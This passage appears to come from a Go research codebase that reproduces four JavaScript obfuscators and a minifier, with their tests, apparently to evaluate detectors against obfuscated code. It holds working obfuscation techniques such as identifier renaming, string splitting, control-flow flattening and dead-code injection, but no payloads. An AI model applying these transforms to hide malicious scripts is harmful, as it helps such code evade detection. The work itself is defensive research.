						Property: &ast.Identifier{Name: "random"},
					}},
					Right: &ast.Literal{Kind: ast.LiteralNumber, NumVal: float64(rng.Intn(1000))},
				}},
			}},
		}}
	}
}

// injectDeadCode inserts junk statements at random top-level positions.
func injectDeadCode(prog *ast.Program, rng *rand.Rand) {
	count := 2 + rng.Intn(3)
	for i := 0; i < count; i++ {
		pos := 0
		if len(prog.Body) > 0 {
			pos = rng.Intn(len(prog.Body) + 1)
		}
		snip := deadCodeSnippets(rng, i)
		prog.Body = append(prog.Body[:pos], append(snip, prog.Body[pos:]...)...)
	}
}
