package obfuscate

import (
	"strings"
	"testing"

	"jsrevealer/internal/js/ast"
	"jsrevealer/internal/js/parser"
)

const sampleSrc = `
var secretKey = "abcdef0123456789";
var counter = 0;
function computeDigest(input, rounds) {
  var digest = 0;
  for (var i = 0; i < rounds; i++) {
    digest = (digest * 31 + input.charCodeAt(i % input.length)) & 0xffff;
  }
  return digest;
}
function report(value) {
  console.log("digest is " + value);
  counter++;
}
if (counter === 0) {
  report(computeDigest(secretKey, 64));
}
`

func allObfuscators() []Obfuscator {
	return []Obfuscator{
		&JavaScriptObfuscator{Seed: 1},
		&Jfogs{Seed: 2},
		&JSObfu{Seed: 3},
		&Jshaman{Seed: 4},
		&LiteString{Seed: 5},
		&Minifier{},
	}
}

func TestOutputsReparse(t *testing.T) {
	for _, ob := range allObfuscators() {
		out, err := ob.Obfuscate(sampleSrc)
		if err != nil {
			t.Fatalf("%s: %v", ob.Name(), err)
		}
		if _, err := parser.Parse(out); err != nil {
			t.Errorf("%s output does not reparse: %v\n%s", ob.Name(), err, out)
		}
	}
}

func TestDeterministicForSeed(t *testing.T) {
	for _, ob := range allObfuscators() {
		a, err := ob.Obfuscate(sampleSrc)
		if err != nil {
			t.Fatalf("%s: %v", ob.Name(), err)
		}
		b, _ := ob.Obfuscate(sampleSrc)
		if a != b {
			t.Errorf("%s output not deterministic", ob.Name())
		}
	}
}

func TestRenamersHideDeclaredNames(t *testing.T) {
	for _, ob := range []Obfuscator{
		&JavaScriptObfuscator{Seed: 1},
		&JSObfu{Seed: 3},
		&Jshaman{Seed: 4},
	} {
		out, err := ob.Obfuscate(sampleSrc)
		if err != nil {
			t.Fatalf("%s: %v", ob.Name(), err)
		}
		// "digest" is excluded: it also occurs inside a string literal,
		// which renaming must leave alone.
		for _, name := range []string{"secretKey", "computeDigest", "rounds"} {
			if strings.Contains(out, name) {
				t.Errorf("%s kept declared name %q", ob.Name(), name)
			}
		}
	}
}

func TestRenamingPreservesProtectedGlobals(t *testing.T) {
	out, err := (&Jshaman{Seed: 9}).Obfuscate(sampleSrc)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "console") {
		t.Error("console global was renamed")
	}
}

func TestJavaScriptObfuscatorStringArray(t *testing.T) {
	out, err := (&JavaScriptObfuscator{Seed: 7}).Obfuscate(sampleSrc)
	if err != nil {
		t.Fatal(err)
	}
	// No plaintext long string literals survive.
	if strings.Contains(out, "abcdef0123456789") || strings.Contains(out, "digest is ") {
		t.Errorf("plaintext strings survived:\n%s", out)
	}
	// The decoder uses atob over the rotated array.
	if !strings.Contains(out, "atob") {
		t.Error("no base64 decoder in output")
	}
}

func TestJavaScriptObfuscatorFlattening(t *testing.T) {
	src := "a();\nb();\nc();\nd();"
	out, err := (&JavaScriptObfuscator{Seed: 7, DisableDeadCode: true}).Obfuscate(src)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "switch") || !strings.Contains(out, "while") {
		t.Errorf("straight-line run not flattened:\n%s", out)
	}
	// The dispatcher executes in the original order: the order string must
	// visit the shuffled cases such that a,b,c,d stay sequential. We verify
	// structurally: output parses and contains all four calls.
	prog, err := parser.Parse(out)
	if err != nil {
		t.Fatal(err)
	}
	calls := 0
	ast.Walk(prog, func(n ast.Node) bool {
		if _, ok := n.(*ast.CallExpression); ok {
			calls++
		}
		return true
	})
	if calls < 4 {
		t.Errorf("flattened output lost calls: %d", calls)
	}
}

func TestFlatteningSkipsFreeJumps(t *testing.T) {
	// The if(x) break; binds to the outer while: flattening the loop body
	// would retarget it, so the body must stay unflattened.
	src := "while (1) { a(); b(); if (x) { break; } }"
	out, err := (&JavaScriptObfuscator{Seed: 3, DisableDeadCode: true}).Obfuscate(src)
	if err != nil {
		t.Fatal(err)
	}
	prog, err := parser.Parse(out)
	if err != nil {
		t.Fatal(err)
	}
	// No switch may contain the free break.
	ast.Walk(prog, func(n ast.Node) bool {
		if sw, ok := n.(*ast.SwitchStatement); ok {
			ast.Walk(sw, func(m ast.Node) bool {
				if br, ok := m.(*ast.BreakStatement); ok && br.Label == nil {
					// breaks inside the dispatcher's own cases are continues
					// in our construction; a bare break here is the free one.
					t.Error("free break moved into dispatcher")
				}
				return true
			})
		}
		return true
	})
}

func TestContainsFreeJump(t *testing.T) {
	parse1 := func(src string) ast.Statement {
		prog, err := parser.Parse(src)
		if err != nil {
			t.Fatal(err)
		}
		return prog.Body[0]
	}
	cases := map[string]bool{
		"if (x) { break; }":                       true,
		"if (x) { continue; }":                    true,
		"while (1) { break; }":                    false,
		"for (;;) { continue; }":                  false,
		"switch (x) { case 1: break; }":           false,
		"if (x) { while (1) { break; } }":         false,
		"if (x) { f(function() { return 1; }); }": false,
		"lbl: while (1) { break lbl; }":           false, // label stays within
	}
	for src, want := range cases {
		stmt := parse1(src)
		// Labeled case: check the labelled statement's body.
		if ls, ok := stmt.(*ast.LabeledStatement); ok {
			stmt = ls.Body
			want = true // labelled jumps are conservatively free
		}
		if got := containsFreeJump(stmt); got != want {
			t.Errorf("containsFreeJump(%q) = %v, want %v", src, got, want)
		}
	}
}

func TestJfogsHidesCallArguments(t *testing.T) {
	out, err := (&Jfogs{Seed: 11}).Obfuscate(sampleSrc)
	if err != nil {
		t.Fatal(err)
	}
	// Literal arguments move into the fog array.
	if strings.Contains(out, "computeDigest(secretKey, 64)") {
		t.Error("call arguments survived verbatim")
	}
	if !strings.Contains(out, "$fog$") {
		t.Error("no fog array in output")
	}
	// Function declarations dissolve.
	prog, err := parser.Parse(out)
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range prog.Body {
		if fd, ok := s.(*ast.FunctionDeclaration); ok &&
			!strings.HasPrefix(fd.ID.Name, "$fog") {
			t.Errorf("function declaration %q survived Jfogs", fd.ID.Name)
		}
	}
}

func TestJSObfuSplitsStrings(t *testing.T) {
	out, err := (&JSObfu{Seed: 13}).Obfuscate(sampleSrc)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(out, `"abcdef0123456789"`) {
		t.Error("long string survived three rounds of JSObfu")
	}
}

func TestJSObfuIterationCount(t *testing.T) {
	one := &JSObfu{Seed: 13, Iterations: 1}
	three := &JSObfu{Seed: 13, Iterations: 3}
	out1, err := one.Obfuscate(sampleSrc)
	if err != nil {
		t.Fatal(err)
	}
	out3, err := three.Obfuscate(sampleSrc)
	if err != nil {
		t.Fatal(err)
	}
	if len(out3) <= len(out1) {
		t.Errorf("three rounds (%d bytes) should expand more than one (%d bytes)",
			len(out3), len(out1))
	}
}

func TestJshamanOnlyRenames(t *testing.T) {
	out, err := (&Jshaman{Seed: 17}).Obfuscate(sampleSrc)
	if err != nil {
		t.Fatal(err)
	}
	// Structure is untouched: same statement count and same AST node types
	// multiset as the original.
	orig, _ := parser.Parse(sampleSrc)
	got, err := parser.Parse(out)
	if err != nil {
		t.Fatal(err)
	}
	if ast.Count(orig) != ast.Count(got) {
		t.Errorf("node count changed: %d -> %d", ast.Count(orig), ast.Count(got))
	}
	// Strings survive verbatim.
	if !strings.Contains(out, "digest is ") {
		t.Error("Jshaman must not touch string literals")
	}
}

func TestMinifierPreservesAST(t *testing.T) {
	min := &Minifier{}
	out, err := min.Obfuscate(sampleSrc)
	if err != nil {
		t.Fatal(err)
	}
	if len(out) >= len(sampleSrc) {
		t.Errorf("minified output (%d) not smaller than input (%d)", len(out), len(sampleSrc))
	}
	// The minified source parses to a structurally identical AST.
	orig, _ := parser.Parse(sampleSrc)
	got, err := parser.Parse(out)
	if err != nil {
		t.Fatalf("minified output does not parse: %v\n%s", err, out)
	}
	if ast.Count(orig) != ast.Count(got) {
		t.Errorf("minification changed the AST: %d vs %d nodes", ast.Count(orig), ast.Count(got))
	}
}

func TestLiteStringRewritesStrings(t *testing.T) {
	out, err := (&LiteString{Seed: 21}).Obfuscate(sampleSrc)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := parser.Parse(out); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "join") {
		t.Error("LiteString did not rewrite any string")
	}
}

func TestRegistryAndPaperOrder(t *testing.T) {
	reg := Registry(1)
	for _, name := range PaperOrder() {
		if _, ok := reg[name]; !ok {
			t.Errorf("registry missing %q", name)
		}
	}
	if len(PaperOrder()) != 4 {
		t.Errorf("paper order has %d tools, want 4", len(PaperOrder()))
	}
	if _, ok := reg["Minify"]; !ok {
		t.Error("registry missing Minify")
	}
}

func TestObfuscatorsRejectBadInput(t *testing.T) {
	for _, ob := range allObfuscators() {
		if _, isMinifier := ob.(*Minifier); isMinifier {
			// The minifier operates on the token stream, so it only rejects
			// lexically invalid input.
			if _, err := ob.Obfuscate(`var x = "unterminated`); err == nil {
				t.Error("Minify accepted lexically invalid JavaScript")
			}
			continue
		}
		if _, err := ob.Obfuscate("var = = ;"); err == nil {
			t.Errorf("%s accepted invalid JavaScript", ob.Name())
		}
	}
}

func TestEmptyProgram(t *testing.T) {
	for _, ob := range allObfuscators() {
		out, err := ob.Obfuscate("")
		if err != nil {
			t.Errorf("%s failed on empty input: %v", ob.Name(), err)
		}
		if _, err := parser.Parse(out); err != nil {
			t.Errorf("%s empty-input output does not parse", ob.Name())
		}
	}
}
