package obfuscate

import (
	"fmt"
	"math/rand"
	"strings"

	"jsrevealer/internal/js/ast"
	"jsrevealer/internal/js/parser"
	"jsrevealer/internal/js/printer"
)

// Jfogs reproduces the Jfogs obfuscator, which "focuses on removing function
// call identifiers and parameters": literal call arguments are hoisted into
// a global fog array and referenced by index, and direct callee identifiers
// are routed through fog dispatcher functions so the original call shape
// disappears from the source.
type Jfogs struct {
	// Seed makes output deterministic.
	Seed int64
}

// Name implements Obfuscator.
func (*Jfogs) Name() string { return "Jfogs" }

// Obfuscate implements Obfuscator.
func (o *Jfogs) Obfuscate(src string) (string, error) {
	prog, err := parser.Parse(src)
	if err != nil {
		return "", fmt.Errorf("jfogs: parse: %w", err)
	}
	rng := rand.New(rand.NewSource(o.Seed ^ int64(len(src))*2654435761))
	fogArr := fmt.Sprintf("$fog$%x", rng.Intn(1<<16))

	var pool []ast.Expression

	// Hoist literal arguments of calls into the fog array.
	RewriteExpressions(prog, func(e ast.Expression) ast.Expression {
		call, ok := e.(*ast.CallExpression)
		if !ok {
			return e
		}
		for i, arg := range call.Arguments {
			lit, isLit := arg.(*ast.Literal)
			if !isLit || lit.Kind == ast.LiteralRegExp {
				continue
			}
			idx := len(pool)
			pool = append(pool, lit)
			call.Arguments[i] = &ast.MemberExpression{
				Object:   &ast.Identifier{Name: fogArr},
				Computed: true,
				Property: &ast.Literal{Kind: ast.LiteralNumber, NumVal: float64(idx)},
			}
		}
		return call
	})

	// Route direct calls to program-declared functions through uniform fog
	// wrappers: f(a) becomes $fogcall$N(a), where $fogcall$N applies f.
	decl := declaredFunctionNames(prog)
	wrappers := make(map[string]string)
	var wrapperDecls []ast.Statement
	RewriteExpressions(prog, func(e ast.Expression) ast.Expression {
		call, ok := e.(*ast.CallExpression)
		if !ok {
			return e
		}
		id, ok := call.Callee.(*ast.Identifier)
		if !ok || !decl[id.Name] {
			return e
		}
		wrapName, seen := wrappers[id.Name]
		if !seen {
			wrapName = fmt.Sprintf("$fogf$%d", len(wrappers))
			wrappers[id.Name] = wrapName
			// function $fogf$N() { return f.apply(null, arguments); }
			wrapperDecls = append(wrapperDecls, &ast.FunctionDeclaration{
				ID: &ast.Identifier{Name: wrapName},
				Body: &ast.BlockStatement{Body: []ast.Statement{
					&ast.ReturnStatement{Argument: &ast.CallExpression{
						Callee: &ast.MemberExpression{
							Object:   &ast.Identifier{Name: id.Name},
							Property: &ast.Identifier{Name: "apply"},
						},
						Arguments: []ast.Expression{
							&ast.Literal{Kind: ast.LiteralNull},
							&ast.Identifier{Name: "arguments"},
						},
					}},
				}},
			})
		}
		call.Callee = &ast.Identifier{Name: wrapName}
		return call
	})

	// Remaining non-literal call arguments hide behind thunks: f(x) becomes
	// f($fogv$(function () { return x; })), severing the argument's visible
	// data flow exactly as Jfogs' parameter removal does.
	thunkName := fmt.Sprintf("$fogv$%x", rng.Intn(1<<16))
	usedThunk := false
	RewriteExpressions(prog, func(e ast.Expression) ast.Expression {
		call, ok := e.(*ast.CallExpression)
		if !ok {
			return e
		}
		if id, isID := call.Callee.(*ast.Identifier); isID && strings.HasPrefix(id.Name, "$fogv$") {
			return e
		}
		for i, arg := range call.Arguments {
			switch arg.(type) {
			case *ast.Identifier, *ast.MemberExpression, *ast.BinaryExpression:
				usedThunk = true
				call.Arguments[i] = &ast.CallExpression{
					Callee: &ast.Identifier{Name: thunkName},
					Arguments: []ast.Expression{&ast.FunctionExpression{
						Body: &ast.BlockStatement{Body: []ast.Statement{
							&ast.ReturnStatement{Argument: arg},
						}},
					}},
				}
			}
		}
		return call
	})

	// Function declarations dissolve into fog-wrapped function expressions:
	// `function f(a) {...}` becomes `var f = $fogw$(function (a) {...});`,
	// hoisted to the top of its scope so call-before-definition still works.
	// This is Jfogs' removal of function call identifiers: no
	// FunctionDeclaration survives in the output.
	wrapFn := fmt.Sprintf("$fogw$%x", rng.Intn(1<<16))
	convertedAny := convertFunctionDeclarations(prog, wrapFn)

	var prologue []ast.Statement
	if convertedAny {
		// function $fogw$(g) { return g; }
		prologue = append(prologue, &ast.FunctionDeclaration{
			ID:     &ast.Identifier{Name: wrapFn},
			Params: []*ast.Identifier{{Name: "g"}},
			Body: &ast.BlockStatement{Body: []ast.Statement{
				&ast.ReturnStatement{Argument: &ast.Identifier{Name: "g"}},
			}},
		})
	}
	if usedThunk {
		// function $fogv$(g) { return g(); }
		prologue = append(prologue, &ast.FunctionDeclaration{
			ID:     &ast.Identifier{Name: thunkName},
			Params: []*ast.Identifier{{Name: "g"}},
			Body: &ast.BlockStatement{Body: []ast.Statement{
				&ast.ReturnStatement{Argument: &ast.CallExpression{
					Callee: &ast.Identifier{Name: "g"},
				}},
			}},
		})
	}
	if len(pool) > 0 {
		prologue = append(prologue, &ast.VariableDeclaration{
			Kind: "var",
			Declarations: []*ast.VariableDeclarator{{
				ID:   &ast.Identifier{Name: fogArr},
				Init: &ast.ArrayExpression{Elements: pool},
			}},
		})
	}
	prologue = append(prologue, wrapperDecls...)
	prog.Body = append(prologue, prog.Body...)
	return printer.Print(prog), nil
}

// convertFunctionDeclarations rewrites every function declaration in every
// scope (except fog-injected helpers) into a hoisted var-assigned function
// expression wrapped by wrapFn. Returns whether anything was converted.
func convertFunctionDeclarations(prog *ast.Program, wrapFn string) bool {
	converted := false
	convertList := func(body []ast.Statement) []ast.Statement {
		var decls []ast.Statement
		var rest []ast.Statement
		for _, s := range body {
			fd, ok := s.(*ast.FunctionDeclaration)
			if !ok || strings.HasPrefix(fd.ID.Name, "$fog") {
				rest = append(rest, s)
				continue
			}
			converted = true
			decls = append(decls, &ast.VariableDeclaration{
				Kind: "var",
				Declarations: []*ast.VariableDeclarator{{
					ID: &ast.Identifier{Name: fd.ID.Name},
					Init: &ast.CallExpression{
						Callee: &ast.Identifier{Name: wrapFn},
						Arguments: []ast.Expression{&ast.FunctionExpression{
							Params: fd.Params,
							Body:   fd.Body,
						}},
					},
				}},
			})
		}
		return append(decls, rest...)
	}
	// Nested scopes first so the walk sees original declarations.
	ast.Walk(prog, func(n ast.Node) bool {
		switch fn := n.(type) {
		case *ast.FunctionDeclaration:
			fn.Body.Body = convertList(fn.Body.Body)
		case *ast.FunctionExpression:
			fn.Body.Body = convertList(fn.Body.Body)
		}
		return true
	})
	prog.Body = convertList(prog.Body)
	return converted
}

// declaredFunctionNames returns the names bound by function declarations.
func declaredFunctionNames(prog *ast.Program) map[string]bool {
	out := make(map[string]bool)
	ast.Walk(prog, func(n ast.Node) bool {
		if fd, ok := n.(*ast.FunctionDeclaration); ok {
			out[fd.ID.Name] = true
		}
		return true
	})
	return out
}
