package obfuscate

import (
	"fmt"
	"math/rand"

	"jsrevealer/internal/js/ast"
	"jsrevealer/internal/js/parser"
	"jsrevealer/internal/js/printer"
)

// JSObfu reproduces the Rapid7 JSObfu obfuscator, which "randomizes and
// removes easily-signaturable string constants as much as possible": strings
// are split into random concatenations or re-encoded through fromCharCode,
// numbers become arithmetic expressions, booleans become !0/!1, and names
// are randomized. The paper applies it iteratively three times, which this
// implementation mirrors.
type JSObfu struct {
	// Seed makes output deterministic.
	Seed int64
	// Iterations is the number of obfuscation rounds; 0 means the paper's 3.
	Iterations int
}

// Name implements Obfuscator.
func (*JSObfu) Name() string { return "JSObfu" }

// Obfuscate implements Obfuscator.
func (o *JSObfu) Obfuscate(src string) (string, error) {
	iters := o.Iterations
	if iters <= 0 {
		iters = 3
	}
	out := src
	for i := 0; i < iters; i++ {
		next, err := o.round(out, o.Seed+int64(i)*104729)
		if err != nil {
			return "", err
		}
		out = next
	}
	return out, nil
}

func (o *JSObfu) round(src string, seed int64) (string, error) {
	prog, err := parser.Parse(src)
	if err != nil {
		return "", fmt.Errorf("jsobfu: parse: %w", err)
	}
	rng := rand.New(rand.NewSource(seed ^ int64(len(src))*97531))

	renameAll(prog, RandomWordStyle, rng)
	// obj.prop becomes obj["pr" + "op"]: property names turn into split
	// string data, as the real tool does.
	computedMemberAccess(prog, func(lit *ast.Literal) ast.Expression {
		return obfuscateString(lit, rng)
	})

	RewriteExpressions(prog, func(e ast.Expression) ast.Expression {
		lit, ok := e.(*ast.Literal)
		if !ok {
			return e
		}
		switch lit.Kind {
		case ast.LiteralString:
			return obfuscateString(lit, rng)
		case ast.LiteralNumber:
			return obfuscateNumber(lit, rng)
		case ast.LiteralBool:
			// true -> !0, false -> !1
			n := 1.0
			if lit.BoolVal {
				n = 0.0
			}
			return &ast.UnaryExpression{
				Operator: "!",
				Argument: &ast.Literal{Kind: ast.LiteralNumber, NumVal: n},
			}
		}
		return e
	})
	return printer.Print(prog), nil
}

// obfuscateString splits s into a random concatenation, occasionally routing
// a chunk through String.fromCharCode.
func obfuscateString(lit *ast.Literal, rng *rand.Rand) ast.Expression {
	s := lit.StrVal
	if len(s) < 2 {
		return lit
	}
	// Random split points.
	var chunks []string
	for len(s) > 0 {
		n := 1 + rng.Intn(3)
		if n > len(s) {
			n = len(s)
		}
		chunks = append(chunks, s[:n])
		s = s[n:]
	}
	var expr ast.Expression
	for _, c := range chunks {
		var piece ast.Expression
		if rng.Intn(4) == 0 && allASCII(c) {
			piece = fromCharCode(c)
		} else {
			piece = &ast.Literal{Kind: ast.LiteralString, StrVal: c}
		}
		if expr == nil {
			expr = piece
		} else {
			expr = &ast.BinaryExpression{Operator: "+", Left: expr, Right: piece}
		}
	}
	return expr
}

func allASCII(s string) bool {
	for i := 0; i < len(s); i++ {
		if s[i] >= 0x80 {
			return false
		}
	}
	return true
}

// fromCharCode builds String.fromCharCode(c0, c1, ...) for an ASCII chunk.
func fromCharCode(s string) ast.Expression {
	args := make([]ast.Expression, len(s))
	for i := 0; i < len(s); i++ {
		args[i] = &ast.Literal{Kind: ast.LiteralNumber, NumVal: float64(s[i])}
	}
	return &ast.CallExpression{
		Callee: &ast.MemberExpression{
			Object:   &ast.Identifier{Name: "String"},
			Property: &ast.Identifier{Name: "fromCharCode"},
		},
		Arguments: args,
	}
}

// obfuscateNumber rewrites an integer literal as an equivalent arithmetic
// expression; non-integers are left alone.
func obfuscateNumber(lit *ast.Literal, rng *rand.Rand) ast.Expression {
	v := lit.NumVal
	if v != float64(int64(v)) || v < 0 || v > 1e9 {
		return lit
	}
	n := int64(v)
	switch rng.Intn(3) {
	case 0: // n = a + b
		if n < 2 {
			return lit
		}
		a := rng.Int63n(n)
		return &ast.BinaryExpression{
			Operator: "+",
			Left:     &ast.Literal{Kind: ast.LiteralNumber, NumVal: float64(a)},
			Right:    &ast.Literal{Kind: ast.LiteralNumber, NumVal: float64(n - a)},
		}
	case 1: // n = a - b
		b := rng.Int63n(1000)
		return &ast.BinaryExpression{
			Operator: "-",
			Left:     &ast.Literal{Kind: ast.LiteralNumber, NumVal: float64(n + b)},
			Right:    &ast.Literal{Kind: ast.LiteralNumber, NumVal: float64(b)},
		}
	default: // n = (a ^ b)
		mask := rng.Int63n(1 << 16)
		return &ast.BinaryExpression{
			Operator: "^",
			Left:     &ast.Literal{Kind: ast.LiteralNumber, NumVal: float64(n ^ mask)},
			Right:    &ast.Literal{Kind: ast.LiteralNumber, NumVal: float64(mask)},
		}
	}
}
