package obfuscate

import (
	"strings"
	"testing"

	"jsrevealer/internal/js/ast"
	"jsrevealer/internal/js/parser"
)

// minifyAndReparse asserts the minified source parses to a structurally
// identical AST.
func minifyAndReparse(t *testing.T, src string) string {
	t.Helper()
	out, err := (&Minifier{}).Obfuscate(src)
	if err != nil {
		t.Fatalf("minify: %v", err)
	}
	orig, err := parser.Parse(src)
	if err != nil {
		t.Fatalf("parse original: %v", err)
	}
	got, err := parser.Parse(out)
	if err != nil {
		t.Fatalf("parse minified %q: %v", out, err)
	}
	if ast.Count(orig) != ast.Count(got) {
		t.Fatalf("minification changed AST of %q -> %q (%d vs %d nodes)",
			src, out, ast.Count(orig), ast.Count(got))
	}
	return out
}

func TestMinifyASIHazards(t *testing.T) {
	// Each case would change meaning if the newline were dropped naively.
	cases := []string{
		"var a = b\n(c).call(a);",           // call vs continuation
		"var x = y\n[1, 2].forEach(f);",     // index vs array literal
		"function f() { return\n5; }",       // restricted production
		"a = b\n++c;",                       // increment vs addition
		"var q = w;\nvar r = /re/.test(q);", // regex literal after statement
		"x = y\n-z;",                        // minus continuation
	}
	for _, src := range cases {
		minifyAndReparse(t, src)
	}
}

func TestMinifyTokenMerging(t *testing.T) {
	cases := []string{
		"var a = 1 + +b;", // + + must not merge to ++
		"var c = d - -e;", // - - must not merge to --
		"var f = g / h / i;",
		"var n = 1 .toString ? 2 : 3;",
	}
	for _, src := range cases {
		out := minifyAndReparse(t, src)
		if strings.Contains(out, "++") && !strings.Contains(src, "++") {
			t.Errorf("minify merged + + in %q -> %q", src, out)
		}
		if strings.Contains(out, "--") && !strings.Contains(src, "--") {
			t.Errorf("minify merged - - in %q -> %q", src, out)
		}
	}
}

func TestMinifyStripsComments(t *testing.T) {
	out := minifyAndReparse(t, "// header\nvar a = 1; /* block */ var b = 2;")
	if strings.Contains(out, "header") || strings.Contains(out, "block") {
		t.Errorf("comments survived: %q", out)
	}
}

func TestMinifyKeywordSpacing(t *testing.T) {
	out := minifyAndReparse(t, "var abc = typeof xyz;")
	if strings.Contains(out, "vara") || strings.Contains(out, "typeofx") {
		t.Errorf("keyword ran into identifier: %q", out)
	}
}

func TestMinifyIdempotent(t *testing.T) {
	src := "var a = 1;\nfunction f(x) { return x + a; }\nf(2);"
	once := minifyAndReparse(t, src)
	twice := minifyAndReparse(t, once)
	if once != twice {
		t.Errorf("minify not idempotent:\n%q\n%q", once, twice)
	}
}
