package obfuscate

import (
	"math/rand"
	"strings"
	"testing"

	"jsrevealer/internal/js/ast"
	"jsrevealer/internal/js/parser"
	"jsrevealer/internal/js/printer"
)

func TestDeclaredNamesCollection(t *testing.T) {
	src := `
var topVar = 1;
function declared(param1, param2) {
  var inner = param1;
  try { inner(); } catch (caught) { log(caught); }
  var fe = function namedExpr(feParam) { return feParam; };
}
`
	prog, err := parser.Parse(src)
	if err != nil {
		t.Fatal(err)
	}
	names := declaredNames(prog)
	for _, want := range []string{
		"topVar", "declared", "param1", "param2", "inner",
		"caught", "fe", "namedExpr", "feParam",
	} {
		if !names[want] {
			t.Errorf("declaredNames missing %q", want)
		}
	}
	for _, protected := range []string{"log", "document", "eval"} {
		if names[protected] {
			t.Errorf("declaredNames includes undeclared/protected %q", protected)
		}
	}
}

func TestRenameConsistency(t *testing.T) {
	src := "var shared = 1;\nfunction f() { return shared; }\nuse(shared, f());"
	prog, err := parser.Parse(src)
	if err != nil {
		t.Fatal(err)
	}
	renamed := renameAll(prog, HexStyle, rand.New(rand.NewSource(1)))
	if renamed != 2 { // shared and f
		t.Errorf("renamed %d names, want 2", renamed)
	}
	out := printer.Print(prog)
	// All occurrences of `shared` map to one fresh name: exactly one
	// distinct hex name appears three times.
	if strings.Contains(out, "shared") {
		t.Fatalf("shared survived: %s", out)
	}
	prog2, err := parser.Parse(out)
	if err != nil {
		t.Fatal(err)
	}
	counts := make(map[string]int)
	ast.Walk(prog2, func(n ast.Node) bool {
		if id, ok := n.(*ast.Identifier); ok && strings.HasPrefix(id.Name, "_0x") {
			counts[id.Name]++
		}
		return true
	})
	if len(counts) != 2 {
		t.Fatalf("distinct fresh names = %d, want 2: %v", len(counts), counts)
	}
	// The variable's fresh name occurs 3 times (decl + two uses).
	found3 := false
	for _, c := range counts {
		if c == 3 {
			found3 = true
		}
	}
	if !found3 {
		t.Errorf("no fresh name with 3 occurrences: %v", counts)
	}
}

func TestRenameSkipsPropertiesAndKeys(t *testing.T) {
	src := "var value = 1;\nvar o = { value: 2 };\nsend(o.value, value);"
	prog, err := parser.Parse(src)
	if err != nil {
		t.Fatal(err)
	}
	renameAll(prog, HexStyle, rand.New(rand.NewSource(2)))
	out := printer.Print(prog)
	// The property key and the member property keep the name `value`; the
	// variable does not.
	if !strings.Contains(out, "value: 2") {
		t.Errorf("object key renamed: %s", out)
	}
	if !strings.Contains(out, ".value") {
		t.Errorf("member property renamed: %s", out)
	}
	if strings.Contains(out, "var value") {
		t.Errorf("variable not renamed: %s", out)
	}
}

func TestRenameStyles(t *testing.T) {
	rng := rand.New(rand.NewSource(3))
	hex := freshName(HexStyle, rng)
	if !strings.HasPrefix(hex, "_0x") {
		t.Errorf("hex style name = %q", hex)
	}
	word := freshName(RandomWordStyle, rng)
	if strings.HasPrefix(word, "_0x") || len(word) < 6 {
		t.Errorf("word style name = %q", word)
	}
}

func TestComputedMemberAccess(t *testing.T) {
	src := "obj.first.second(arg);\na[i].third = 1;"
	prog, err := parser.Parse(src)
	if err != nil {
		t.Fatal(err)
	}
	computedMemberAccess(prog, nil)
	out := printer.Print(prog)
	if strings.Contains(out, ".first") || strings.Contains(out, ".second") ||
		strings.Contains(out, ".third") {
		t.Errorf("dotted access survived: %s", out)
	}
	for _, want := range []string{`["first"]`, `["second"]`, `["third"]`} {
		if !strings.Contains(out, want) {
			t.Errorf("missing computed form %s in %s", want, out)
		}
	}
	if _, err := parser.Parse(out); err != nil {
		t.Fatalf("output unparseable: %v", err)
	}
}

func TestRenameLeavesLabelsAlone(t *testing.T) {
	src := "var loop = 1;\nloop2: while (loop) { break loop2; }"
	prog, err := parser.Parse(src)
	if err != nil {
		t.Fatal(err)
	}
	renameAll(prog, HexStyle, rand.New(rand.NewSource(4)))
	out := printer.Print(prog)
	if !strings.Contains(out, "loop2:") || !strings.Contains(out, "break loop2") {
		t.Errorf("labels damaged: %s", out)
	}
}
