package obfuscate

import (
	"fmt"
	"math/rand"

	"jsrevealer/internal/js/parser"
	"jsrevealer/internal/js/printer"
)

// Jshaman reproduces the basic tier of the JShaman platform, which — as the
// paper notes when explaining why it perturbs detectors the least — mainly
// applies variable obfuscation: declared names become meaningless hex
// identifiers while code structure is untouched.
type Jshaman struct {
	// Seed makes output deterministic.
	Seed int64
}

// Name implements Obfuscator.
func (*Jshaman) Name() string { return "Jshaman" }

// Obfuscate implements Obfuscator.
func (o *Jshaman) Obfuscate(src string) (string, error) {
	prog, err := parser.Parse(src)
	if err != nil {
		return "", fmt.Errorf("jshaman: parse: %w", err)
	}
	rng := rand.New(rand.NewSource(o.Seed ^ int64(len(src))*40503))
	renameAll(prog, HexStyle, rng)
	return printer.Print(prog), nil
}
