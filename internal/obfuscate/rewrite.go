// Package obfuscate implements source-level JavaScript obfuscators that
// reproduce the signature transformations of the four tools in the paper's
// evaluation (JavaScript-Obfuscator, Jfogs, JSObfu, Jshaman) plus a
// minifier. Each obfuscator parses the input, rewrites the AST, and prints
// it back, so outputs always re-parse.
package obfuscate

import (
	"jsrevealer/internal/js/ast"
)

// Obfuscator transforms JavaScript source while preserving its semantics.
type Obfuscator interface {
	// Name identifies the tool the obfuscator reproduces.
	Name() string
	// Obfuscate rewrites src. The same input and seed produce the same
	// output.
	Obfuscate(src string) (string, error)
}

// ExprRewriter maps an expression to its replacement (possibly itself).
type ExprRewriter func(e ast.Expression) ast.Expression

// RewriteExpressions rebuilds the program bottom-up, applying f to every
// expression after its children have been rewritten. The program is mutated
// in place and also returned.
func RewriteExpressions(prog *ast.Program, f ExprRewriter) *ast.Program {
	for i, s := range prog.Body {
		prog.Body[i] = rewriteStmt(s, f)
	}
	return prog
}

func rewriteStmt(s ast.Statement, f ExprRewriter) ast.Statement {
	switch n := s.(type) {
	case *ast.ExpressionStatement:
		n.Expression = rewriteExpr(n.Expression, f)
	case *ast.BlockStatement:
		for i, b := range n.Body {
			n.Body[i] = rewriteStmt(b, f)
		}
	case *ast.VariableDeclaration:
		for _, d := range n.Declarations {
			if d.Init != nil {
				d.Init = rewriteExpr(d.Init, f)
			}
		}
	case *ast.FunctionDeclaration:
		rewriteBlock(n.Body, f)
	case *ast.ReturnStatement:
		if n.Argument != nil {
			n.Argument = rewriteExpr(n.Argument, f)
		}
	case *ast.IfStatement:
		n.Test = rewriteExpr(n.Test, f)
		n.Consequent = rewriteStmt(n.Consequent, f)
		if n.Alternate != nil {
